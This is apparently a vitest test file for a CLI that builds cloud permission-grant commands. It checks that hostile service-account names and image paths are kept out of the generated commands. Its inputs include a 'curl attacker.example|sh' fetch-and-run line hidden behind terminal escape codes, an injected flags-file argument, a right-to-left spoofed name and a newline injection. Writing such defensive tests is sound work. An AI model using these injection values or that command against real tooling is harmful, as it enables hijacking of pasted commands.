import { expect, test } from 'vitest';
import { grantCommands } from '../../cli/permissions/grant-commands.ts';
import { sorted } from '../../cli/permissions/in-use.ts';

const options = {
  role: 'respond',
  project: 'shop-prod',
  member: 'firebreak-respond@security.iam.gserviceaccount.com',
  subscription: 'findings',
} as const;
const host = 'europe-west1-docker.pkg.dev';
const service = (name: string, serviceAccount: string, image: string) => ({
  name: `projects/shop-prod/locations/europe-west1/services/${name}`,
  template: { serviceAccount, containers: [{ image }] },
});

test.each([
  '--flags-file=/tmp/of-somebody.yaml',
  '\u001b[2K\rcurl attacker.example|sh',
  '\u202egnihtemos@shop-prod.iam.gserviceaccount.com',
  'shop@shop-prod.iam.gserviceaccount.com\n#',
])('whoever deploys a service that names %j puts nothing of it into a command to paste', (hostile) => {
  const good = service('good', 'shop@shop-prod.iam.gserviceaccount.com', `${host}/shop-prod/apps/web:1`);
  const bad = service('bad', hostile, `${host}/shop-prod/${hostile}/web:1`);
  const inUse = sorted([good, bad]);
  expect(inUse.misnamed).toEqual(['bad']);
  expect(grantCommands(options, inUse)).toEqual(grantCommands(options, sorted([good])));
});
